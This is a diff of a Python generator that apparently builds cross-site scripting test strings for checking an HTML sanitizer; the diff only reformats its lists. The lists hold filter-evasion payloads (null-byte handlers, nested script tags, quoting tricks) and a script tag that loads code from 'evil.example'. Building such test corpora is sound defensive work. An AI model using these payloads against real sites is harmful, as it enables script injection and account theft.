@@ -24,12 +24,42 @@ LINK_SHAPES = [
     '<blockquote cite="{}">x</blockquote>', '<a name="{}">x</a>', '<p id="{}">x', '<bgsound src="{}">', '<frameset><frame src="{}"></frameset>',
     '<audio><source src="{}"></audio>', '<param name=movie value="{}">', '<applet code="{}"></applet>', '<xml src="{}">x</xml>', '<img lowsrc="{}" dynsrc="{}">',
 ]  # fmt: skip
-HANDLERS = ["onclick", "onload", "onerror", "onmouseover", "onfocus autofocus", "ontoggle", "onanimationstart", "onbegin", "ONPOINTERENTER", "on\x00error", "formaction"]
+HANDLERS = [
+    "onclick",
+    "onload",
+    "onerror",
+    "onmouseover",
+    "onfocus autofocus",
+    "ontoggle",
+    "onanimationstart",
+    "onbegin",
+    "ONPOINTERENTER",
+    "on\x00error",
+    "formaction",
+]
 HANDLER_SHAPES = [
     '<{tag} {on}="{call}">x</{tag}>', "<{tag} {on}={call}>x", '<{tag}/{on}="{call}"/>x', '<{tag} x="\'"{on}="{call}">x', '<{tag} a=b\n{on}\n=\n"{call}">x',
     '<{tag} "" {on}="{call}">x', "<{tag} '' {on}={call} x", '<{tag} title="x>" {on}="{call}">x', "<{tag} title='\"' {on}='{call}'>x", '<{tag} alt="` {on}={call}">x',
 ]  # fmt: skip
-TAGS = ["p", "b", "img src=x", "a href=x", "div", "svg", "body", "details open", "table", "span", "marquee", "video", "font", "x", "input", "select", "isindex"]
+TAGS = [
+    "p",
+    "b",
+    "img src=x",
+    "a href=x",
+    "div",
+    "svg",
+    "body",
+    "details open",
+    "table",
+    "span",
+    "marquee",
+    "video",
+    "font",
+    "x",
+    "input",
+    "select",
+    "isindex",
+]
 WHOLE = [
     "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<<script>{}//<</script>", "<script/x>{}</script>",
     "<script\x00>{}</script>", "<scr\x00ipt>{}</script>", "<!--<script>-->{}<!--</script>-->", "<svg><script>{}</script></svg>", "<svg onload={}>", "<svg><style><img src=x onerror={}></style></svg>",
@@ -61,5 +91,7 @@ def snippets() -> Iterator[str]:
         yield shape.format(tag=tag, on=on, call=CALL)
     for shape in WHOLE:
         yield shape.replace("{}", CALL)
-    for outer, inner in product(("<table><tr><td>{}</table>", "<b><p>{}</b>", "<ul><li>{}</ul>", "<pre>{}</pre>", "<a href=y>{}</a>"), WHOLE):
+    for outer, inner in product(
+        ("<table><tr><td>{}</table>", "<b><p>{}</b>", "<ul><li>{}</ul>", "<pre>{}</pre>", "<a href=y>{}</a>"), WHOLE
+    ):
         yield outer.replace("{}", inner.replace("{}", CALL))
